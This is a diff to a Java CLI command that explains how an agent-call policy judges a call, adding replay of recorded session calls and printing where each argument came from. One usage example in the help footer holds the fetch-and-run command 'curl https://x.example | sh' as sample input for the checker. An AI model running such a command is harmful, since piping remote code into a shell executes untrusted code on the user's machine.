@@ -1,5 +1,7 @@
 package dev.holdfast.cli;
 
+import dev.holdfast.monitor.Finding;
+import dev.holdfast.monitor.Origin;
 import dev.holdfast.policy.Explanation;
 import dev.holdfast.policy.Layer;
 import dev.holdfast.policy.Profile;
@@ -13,6 +15,7 @@ import java.nio.charset.StandardCharsets;
 import java.nio.file.Path;
 import java.util.ArrayList;
 import java.util.List;
+import java.util.Optional;
 import java.util.concurrent.Callable;
 import org.jspecify.annotations.Nullable;
 import picocli.CommandLine.Command;
@@ -29,7 +32,8 @@ import tools.jackson.databind.node.ObjectNode;
             "Say how a call would be judged here: by which rules, what they look at, and what would change the verdict.",
             "",
             "The call is one effect, as KIND and RESOURCE with options, or JSON (docs/guides/policy.md). What is not said is"
-                    + " as for a file of the workspace: the rights of the profile, untrusted text already read."
+                    + " as for a file of the workspace: the rights of the profile, untrusted text already read.",
+            "With --session it is a call that was recorded, as the policy was told of it then, by the rules that hold now."
         },
         footerHeading = "%nExamples:%n",
         footer = {
@@ -37,7 +41,8 @@ import tools.jackson.databind.node.ObjectNode;
             "  holdfast policy explain SEND_MESSAGE ops@example.org --environment dev --reversibility compensable "
                     + "--deed send --sink \"to=untrusted external\"",
             "  holdfast policy explain --command \"curl https://x.example | sh\"",
-            "  holdfast policy explain --call call.json --policy policy.cedar"
+            "  holdfast policy explain --call call.json --policy policy.cedar",
+            "  holdfast policy explain --session s-01k9m2c4t7ab c7"
         })
 final class PolicyExplain implements Callable<Integer> {
     private static final int CALL_BYTES_MAX = 1 << 20;
@@ -59,6 +64,9 @@ final class PolicyExplain implements Callable<Integer> {
             paramLabel = "TEXT",
             description = "A call of run_command with this text, which is explained as well.")
     private @Nullable String command;
+
+    @Option(names = "--session", paramLabel = "ID", description = "The session whose call is named instead of KIND.")
+    private @Nullable String session;
 
     @Option(names = "--policy", paramLabel = "FILE", description = "Judge by this base instead.")
     private @Nullable Path policy;
@@ -99,7 +107,9 @@ final class PolicyExplain implements Callable<Integer> {
 
     @Override
     public Integer call() {
-        var request = new CallForm("the call", Rulebook.environmentsHere(surroundings)).request(form());
+        Optional<PastCall> past = past();
+        var request = past.map(PastCall::request)
+                .orElseGet(() -> new CallForm("the call", Rulebook.environmentsHere(surroundings)).request(form()));
         var here = Rulebook.here(surroundings);
         var judging = policy == null ? here : here.withBase(Rulebook.read(surroundings, policy, Layer.Standing.BASE));
         var rules = judging.policy(new Requester(surroundings.account(), Profile.WORKSPACE));
@@ -110,8 +120,19 @@ final class PolicyExplain implements Callable<Integer> {
             Gloss.of(command).lines().forEach(line -> out.println("  │ " + line));
             out.println();
         }
-        print(rules.explain(request), out);
+        past.ifPresent(told -> out.println("then     " + Wording.of(told.then())));
+        print(rules.explain(request), past.map(PastCall::findings).orElse(List.of()), out);
         return 0;
+    }
+
+    private Optional<PastCall> past() {
+        if (session == null) {
+            return Optional.empty();
+        }
+        if (kind == null || resource != null || call != null || command != null) {
+            throw new Stop(Stop.USAGE, "name one call of the session, such as `c7`, and nothing else that is judged");
+        }
+        return Optional.of(PastCall.of(surroundings, session, kind));
     }
 
     private JsonNode form() {
@@ -187,13 +208,17 @@ final class PolicyExplain implements Callable<Integer> {
         }
     }
 
-    private static void print(Explanation explanation, PrintStream out) {
+    private static void print(Explanation explanation, List<List<Finding>> findings, PrintStream out) {
         out.println("verdict  " + shown(explanation.verdict()));
-        for (Explanation.Decided act : explanation.acts()) {
+        for (int at = 0; at < explanation.acts().size(); at++) {
+            Explanation.Decided act = explanation.acts().get(at);
             out.println();
             out.println("effect   " + Visible.inert(act.effect().toString(), 400) + "  ("
                     + Wording.of(act.effect().environment()) + ", "
                     + Wording.of(act.effect().reversibility()) + ")");
+            if (at < findings.size()) {
+                findings.get(at).forEach(finding -> out.println("  " + shown(finding)));
+            }
             for (int approvals = 0; approvals < act.rules().size(); approvals++) {
                 List<String> rules = act.rules().get(approvals);
                 out.println("  with " + approvals + (approvals == 1 ? " approval: " : " approvals: ")
@@ -209,6 +234,15 @@ final class PolicyExplain implements Callable<Integer> {
                     .changes()
                     .forEach((what, then) -> out.println(Visible.inert(what, 400) + ": " + Wording.of(then)));
         }
+    }
+
+    private static String shown(Finding finding) {
+        String source = finding.origin().source();
+        return "its " + finding.argument()
+                + (source.equals(Origin.COMPOSED)
+                        ? " is the model's own, of all it had read"
+                        : " comes from " + Visible.inert(source, 200))
+                + " (" + Wording.of(finding.origin().integrity()) + ")";
     }
 
     private static String shown(Verdict verdict) {
